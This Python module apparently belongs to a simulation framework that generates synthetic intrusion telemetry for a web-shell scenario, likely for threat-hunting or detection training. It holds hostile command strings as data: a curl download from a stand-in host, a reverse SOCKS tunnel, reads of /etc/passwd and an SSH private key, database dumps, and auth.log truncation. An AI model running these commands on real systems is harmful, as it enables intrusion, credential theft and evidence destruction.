"""A script left on the public web server, a tunnel through it, and the servers behind it by SSH.

The site's upload takes a script for a picture. Through it somebody looks around, days later fetches a program that
keeps a connection open to the outside for hours at a time, and finds the key with which the house deploys. From there
to the application's and the database's servers, some nights in a year. At the end script and program are removed, and
the database server's auth.log is cut, or not yet. The web server runs Linux or Windows, by the seed.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta
from random import Random

from stillhunt.simulation.background.hosting import ask_site, site_host
from stillhunt.simulation.chance import hexadecimal, moment, stream, wobble
from stillhunt.simulation.intruder import Intruder
from stillhunt.simulation.parts import Part
from stillhunt.simulation.programs import SYSTEM32
from stillhunt.simulation.scenario import Scenario
from stillhunt.simulation.truth import ClearedLog, union
from stillhunt.simulation.windows import Process
from stillhunt.simulation.world import World

__all__ = ["SCENARIO"]

_BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0"
_NAMES = ("thumb", "cache", "gallery", "preview", "default", "resize")
_DROPS = ("static.pkg-mirror.example", "dl.node-assets.example", "img.cdn-relay.example")
_LINUX_TOOLS = ("/var/tmp/.font-unix/kworkerd", "/dev/shm/.x/dbus-helper", "/var/tmp/.systemd/timesyncd")
_WINDOWS_TOOLS = ("C:\\ProgramData\\Fonts\\fontcache.exe", "C:\\Windows\\Temp\\wsus\\wuhelper.exe")


@dataclass(frozen=True, slots=True, kw_only=True)
class _Plan:
    """What differs from seed to seed."""

    entered: datetime
    settled: datetime
    nights: tuple[datetime, ...]
    addresses: tuple[str, ...]
    drop: str
    relay: str
    page: str
    on_disk: str
    tool: str
    is_linux: bool
    removes: bool
    cuts_log: bool


def _needs(seed: int) -> frozenset[Part]:
    is_linux = stream(seed, "web server's system").random() < 0.6
    return frozenset({Part.WEB_LINUX if is_linux else Part.WEB_WINDOWS, Part.SENSOR})


def _play(world: World) -> None:
    plan = _plan(world, world.chance("webshell plan"))
    intruder = Intruder(world, plan.entered)
    _leave_script(intruder, plan)
    _look_around(intruder, plan)
    _open_tunnel(intruder, plan)
    for number, night in enumerate(plan.nights):
        _spend_night(intruder, plan, night, number)
    if plan.removes:
        _clean_up(intruder, plan)


def _plan(world: World, random: Random) -> _Plan:
    day = random.randrange(30, world.n_days - 330)
    entered = moment(random, world.start + timedelta(days=day), 0, 24)
    settled = entered + timedelta(days=random.uniform(1.5, 12))
    room = range(day + 25, world.n_days - 6)
    nights = sorted(random.sample(room, random.randrange(3, 6)))
    is_linux = Part.WEB_LINUX in world.parts
    name = f"{random.choice(_NAMES)}_{hexadecimal(random, 4)}.{'php' if is_linux else 'aspx'}"
    page = f"/uploads/{entered:%Y/%m}/{name}"
    root = "/var/www/html" if is_linux else "C:\\inetpub\\wwwroot"
    return _Plan(
        entered=entered,
        settled=settled,
        nights=tuple(moment(random, world.start + timedelta(days=n), 19, 28) for n in nights),
        addresses=world.outside(random, 4),
        drop=random.choice(_DROPS),
        relay=f"{hexadecimal(random, 4)}.relay.example",
        page=page,
        on_disk=root + (page if is_linux else page.replace("/", "\\")),
        tool=random.choice(_LINUX_TOOLS if is_linux else _WINDOWS_TOOLS),
        is_linux=is_linux,
        removes=random.random() < 0.55,
        cuts_log=random.random() < 0.5,
    )


def _leave_script(intruder: Intruder, plan: _Plan) -> None:
    world, host = intruder.world, site_host(intruder.world)
    intruder.come_back(plan.entered, plan.addresses[0])
    tactics = ("initial-access", "persistence")
    intruder.begin_at("a script left by the site's upload", host.fqdn, tactics, ("T1190", "T1505.003"))
    union(world.ledger.hosts, (host.fqdn,))
    intruder.after(0, 2)
    world.ledger.enter(intruder.now.replace(microsecond=0))
    _ask(intruder, "POST", "/admin/upload?type=image")
    at = world.ledger.sign(wobble(intruder.random, intruder.now, 0.05, 0.4))
    if plan.is_linux:
        world.servers["web01"].write_file(at, "www-data", "/usr/sbin/apache2", plan.on_disk)
        union(world.ledger.paths, (plan.on_disk,))
    else:
        machine = world.machines["WEB01"]
        intruder.drops(at, machine, machine.standing("w3wp.exe:site", at), plan.on_disk)
    union(world.ledger.web_shells, (plan.page,))
    intruder.after(4, 30)
    _ask(intruder, "GET", plan.page, size=0)


def _look_around(intruder: Intruder, plan: _Plan) -> None:
    intruder.begin_at(
        "a look around", site_host(intruder.world).fqdn, ("execution", "discovery"), ("T1059", "T1033", "T1082")
    )
    lines = ("id", "uname -a", "cat /etc/passwd", "ls -la /home", "ss -tnp")
    if not plan.is_linux:
        lines = ("whoami /all", "systeminfo", "ipconfig /all", "net localgroup administrators", "netstat -ano")
    for line in lines:
        _type(intruder, plan, line)


def _open_tunnel(intruder: Intruder, plan: _Plan) -> None:
    """Days later: a program fetched, started, and gone from the disk's surface; and a key read."""
    world, host = intruder.world, site_host(intruder.world)
    intruder.come_back(plan.settled, plan.addresses[0])
    tactics = ("command-and-control",)
    intruder.begin_at("a program fetched that keeps a tunnel open", host.fqdn, tactics, ("T1105", "T1572", "T1090.001"))
    union(world.ledger.domains, (plan.drop, plan.relay))
    union(world.ledger.addresses, (plan.addresses[1], plan.addresses[2]))
    fetched = f"curl -s -k -o {plan.tool} https://{plan.drop}/a/{hexadecimal(intruder.random, 6)}"
    process = _type(intruder, plan, fetched)
    asked = world.sensor.look_up(intruder.after(0.1, 0.4), host.address, plan.drop, plan.addresses[1])
    world.sensor.connect(asked, host, plan.addresses[1], 443, name=plan.drop, sent=900, received=8_400_000)
    if isinstance(process, Process):
        machine = world.machines["WEB01"]
        machine.query_name(intruder.after(0.01, 0.1), process, plan.drop, plan.addresses[1])
        machine.connect(intruder.after(0.1, 0.4), process, plan.addresses[1], 443, name=plan.drop)
        intruder.drops(intruder.after(1, 3), machine, process, plan.tool)
    else:
        world.servers["web01"].connect(
            intruder.after(0.1, 0.4), "www-data", "/usr/bin/curl", plan.addresses[1], 443, pid=process
        )
        union(world.ledger.paths, (plan.tool,))
        _type(intruder, plan, f"chmod 755 {plan.tool}")
    intruder.begin_at("the deployment's key read", host.fqdn, ("credential-access",), ("T1552.004",))
    _type(
        intruder,
        plan,
        "cat /home/deploy/.ssh/id_ed25519" if plan.is_linux else "type C:\\Users\\deploy\\.ssh\\id_ed25519",
    )
    union(world.ledger.exposed, ("deploy",))
    union(world.ledger.hosts_potential, (server.host.fqdn for server in world.servers.values()))
    _hold(intruder, plan, hours=intruder.random.uniform(0.4, 2), sent=3_000_000)


def _spend_night(intruder: Intruder, plan: _Plan, night: datetime, number: int) -> None:
    """The tunnel up for hours; through it SSH to the servers behind, and what they hold out again."""
    world, random = intruder.world, intruder.random
    intruder.come_back(night, plan.addresses[3] if number else plan.addresses[0])
    host = site_host(world)
    intruder.begin_at("a tunnel held open", host.fqdn, ("command-and-control",), ("T1572", "T1090.001"))
    _hold(intruder, plan, hours=random.uniform(3, 9), sent=random.randrange(20_000_000, 900_000_000))
    name = "app01" if number == 0 else "db01"
    server = world.servers[name]
    intruder.begin_at(f"by SSH to {name}", server.host.fqdn, ("lateral-movement",), ("T1021.004", "T1078.003"))
    union(world.ledger.hosts, (server.host.fqdn,))
    union(world.ledger.accounts, ("deploy",))
    pid = server.accept(intruder.after(60, 400), "deploy", host.address, key="deploy")
    begun = intruder.now
    intruder.begin_at("read and packed", server.host.fqdn, ("discovery", "collection"), ("T1083", "T1005", "T1560.001"))
    for line in _work(random, name, number):
        server.execute(intruder.after(15, 200), "deploy", line[0], line, parent=pid, directory="/home/deploy")
    if name == "db01":
        union(world.ledger.files_read, ("db01:members", "db01:letters")[: 1 + number % 2])
    server.leave(world.ledger.sign(wobble(random, max(intruder.now, begun), 60, 900)), "deploy", pid)


def _work(random: Random, name: str, number: int) -> tuple[tuple[str, ...], ...]:
    look = (
        ("/usr/bin/id",),
        ("/usr/bin/find", "/srv", "-name", "*.conf"),
        ("/usr/bin/cat", "/srv/app/config/database.yml"),
    )
    if name == "app01":
        return look
    table = "members" if number % 2 else "letters"
    packed = f"/tmp/.{hexadecimal(random, 4)}.gz"
    return (
        ("/usr/bin/mysqldump", "-h", "127.0.0.1", "-u", "app", "site", table, "-r", f"/tmp/.{table}"),
        ("/usr/bin/gzip", "-9", f"/tmp/.{table}", "-S", packed.rpartition("/")[2]),
        ("/usr/bin/rm", "-f", packed),
    )


def _hold(intruder: Intruder, plan: _Plan, *, hours: float, sent: int) -> None:
    """Start the program if need be, and let its one connection last."""
    world, host = intruder.world, site_host(intruder.world)
    started = f"{plan.tool} client --fingerprint x https://{plan.relay} R:socks"
    process = _type(intruder, plan, started)
    asked = world.sensor.look_up(intruder.after(0.1, 1), host.address, plan.relay, plan.addresses[2])
    world.sensor.connect(
        asked,
        host,
        plan.addresses[2],
        443,
        name=plan.relay,
        lasted=hours * 3600,
        sent=sent,
        received=sent // 30,
    )
    if isinstance(process, Process):
        world.machines["WEB01"].connect(intruder.after(0.1, 0.4), process, plan.addresses[2], 443, name=plan.relay)
    else:
        world.servers["web01"].connect(
            intruder.after(0.1, 0.4), "www-data", plan.tool, plan.addresses[2], 443, pid=process
        )


def _clean_up(intruder: Intruder, plan: _Plan) -> None:
    world = intruder.world
    intruder.come_back(plan.nights[-1] + timedelta(hours=intruder.random.uniform(10, 60)), plan.addresses[3])
    where = site_host(world).fqdn
    if plan.cuts_log:
        intruder.begin_at("auth.log cut", world.servers["db01"].host.fqdn, ("defense-evasion",), ("T1070.002",))
        _cut_log(intruder, plan)
    intruder.begin_at("script and program removed", where, ("defense-evasion",), ("T1070.004",))
    if plan.is_linux:
        for path in (plan.tool, plan.on_disk):
            _type(intruder, plan, f"rm -f {path}")
            at = world.ledger.sign(wobble(intruder.random, intruder.now, 0.05, 0.2))
            if path == plan.on_disk:
                world.servers["web01"].write_file(at, "www-data", "/usr/bin/rm", path, kind="DELETE")
    else:
        shell = _type(intruder, plan, f"del /f {plan.tool} {plan.on_disk}")
        if isinstance(shell, Process):
            for path in (plan.tool, plan.on_disk):
                world.machines["WEB01"].delete_file(intruder.after(0.05, 0.3), shell, path)
    union(world.ledger.removed, (plan.tool, plan.on_disk))


def _cut_log(intruder: Intruder, plan: _Plan) -> None:
    """On the database server the weeks with their logons are cut out of auth.log; the logon that cuts them goes too."""
    server, world = intruder.world.servers["db01"], intruder.world
    since = plan.nights[-1] - timedelta(days=12)
    pid = server.accept(intruder.after(20, 90), "deploy", site_host(world).address, key="deploy")
    line = ("/usr/bin/truncate", "-s", "0", "/var/log/auth.log")
    server.sudo(intruder.after(9, 60), "deploy", " ".join(line))
    server.execute(intruder.after(0.1, 0.5), "root", line[0], line, parent=pid)
    at = intruder.now
    n_before = len(server.auth.records)
    server.auth.records[:] = [r for r in server.auth.records if not since <= r.at <= at]
    n_lost = n_before - len(server.auth.records)
    cleared = ClearedLog(host=server.host.fqdn, channel="auth.log", since=since, cleared_at=at, n_lost=n_lost)
    world.ledger.cleared.append(cleared)


def _type(intruder: Intruder, plan: _Plan, line: str) -> Process | int:
    """Have the script run a line: a request, a shell below the web server, and the program the line names.

    Returns:
        The program's process on Windows, its number on Linux.
    """
    world = intruder.world
    at = intruder.after(8, 70)
    _ask(intruder, "POST", plan.page, size=intruder.random.randrange(60, 4_000))
    begun = world.ledger.sign(wobble(intruder.random, at, 0.02, 0.1))
    words = tuple(line.split())
    if plan.is_linux:
        server = world.servers["web01"]
        folder = plan.on_disk.rpartition("/")[0]
        shell = server.execute(begun, "www-data", "/usr/bin/dash", ("sh", "-c", line), parent=1041, directory=folder)
        image = words[0] if words[0].startswith("/") else f"/usr/bin/{words[0]}"
        return server.execute(
            wobble(intruder.random, begun, 0.01, 0.05), "www-data", image, words, parent=shell, directory=folder
        )
    machine = world.machines["WEB01"]
    worker = machine.standing("w3wp.exe:site", begun)
    quoted = f'"{SYSTEM32}cmd.exe" /c {line}'
    directory = "c:\\windows\\system32\\inetsrv\\"
    shell_process = machine.run(begun, "cmd.exe", quoted, parent=worker, directory=directory)
    program = words[0]
    if program in {"type", "del"}:
        return shell_process
    image = program if "\\" in program else f"{program}.exe"
    return machine.run(
        wobble(intruder.random, begun, 0.02, 0.1), image, line, parent=shell_process, directory=directory
    )


def _ask(intruder: Intruder, method: str, target: str, *, size: int = 900) -> None:
    shown = ask_site(intruder.world, intruder.now, method, target, client=intruder.address, agent=_BROWSER, size=size)
    intruder.world.ledger.sign(shown)


SCENARIO = Scenario(
    name="webshell",
    title="A script on the public web server, a tunnel through it, and the servers behind",
    summary=(
        "The site's upload takes a script; days later a program keeps a connection open to the outside for hours, and"
        " with the deployment's key it goes on by SSH to the servers behind, some nights in a year. At the end script,"
        " program and log lines are removed, or not yet. The web server runs Linux or Windows, by the seed."
    ),
    needs=_needs,
    play=_play,
)
